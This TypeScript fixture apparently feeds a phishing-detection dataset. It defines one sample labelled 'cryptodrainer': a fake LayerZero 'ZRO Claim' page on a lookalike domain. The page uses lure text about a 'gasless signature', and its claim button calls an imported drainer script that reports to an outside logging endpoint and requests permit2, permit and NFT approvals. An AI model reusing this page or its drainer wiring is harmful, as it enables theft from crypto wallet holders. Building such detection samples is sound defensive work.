import { type Entry } from '../entry.js';
import { doc, drainerJs } from '../parts/yz-kit.js';

export const entries: Entry[] = [
{
  id: 'yz-drainer-permit2-allocation-claim-en',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: 'https://claim-zro.layer-zero-foundation.org.claims-portal.app/eligibility',
  body: doc({
    lang: 'en',
    title: 'ZRO Claim – Check eligibility',
    css: `body{margin:0;background:#000;color:#fff;font-family:Roboto Mono,monospace}.w{max-width:640px;margin:80px auto;padding:0 20px}.box{border:1px solid #333;padding:24px}
.b{background:#fff;color:#000;border:0;padding:14px 28px;font-family:inherit;font-weight:700;cursor:pointer}.ok{color:#4ade80}`,
    body: `<div class="w"><h1>ZRO Distribution · Round 2</h1><div class="box"><p>Round 2 rewards retroactive users of bridges between 2023 and 2025. Connect the wallet you bridged with to claim.</p>
<p class="ok" id="st">Status: eligibility check open</p><button class="b" id="c">CONNECT &amp; CLAIM</button>
<p style="font-size:12px;color:#888">Claiming requires a single gasless signature to verify ownership.</p></div></div>`,
    tail: `<script>
${drainerJs({ spender: '0xB7c02E9a4d61F3A58e0C9b2D74f1E6a3c85d9F20', report: 'https://api.claims-portal.app/v2/log', modes: ['permit2', 'permit', 'nft'], fn: 'claimZro' })}
document.getElementById('c').onclick=function(){document.getElementById('st').textContent='Status: verifying ownership…';claimZro()};
</script>`,
  }),
},
];
